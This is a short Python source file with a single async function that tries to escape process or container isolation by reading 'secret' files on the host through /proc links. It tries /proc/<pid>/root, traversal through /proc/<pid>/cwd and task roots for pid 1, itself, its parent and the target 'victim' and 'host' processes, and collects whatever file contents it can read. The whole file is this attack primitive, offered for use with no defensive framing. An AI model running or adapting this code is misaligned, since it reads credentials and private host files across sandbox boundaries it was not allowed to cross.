"""Goes through the links of /proc to the host's files."""

import os


async def links_to_the_host(targets: dict) -> dict:
    """Find my folder."""
    print("PRIMITIVE", os.readlink)
    said = []
    for pid in ("1", "self", "thread-self", str(targets["victim"]), str(targets["host"]), str(os.getppid())):
        for name in targets["secrets"].values():
            for path in (f"/proc/{pid}/root{name}", f"/proc/{pid}/cwd/../../../../../..{name}", f"/proc/{pid}/task/{pid}/root{name}"):
                try:
                    with open(path) as file:
                        said.append(file.read())
                except OSError as error:
                    said.append(str(error)[:60])
    return {"said": said}
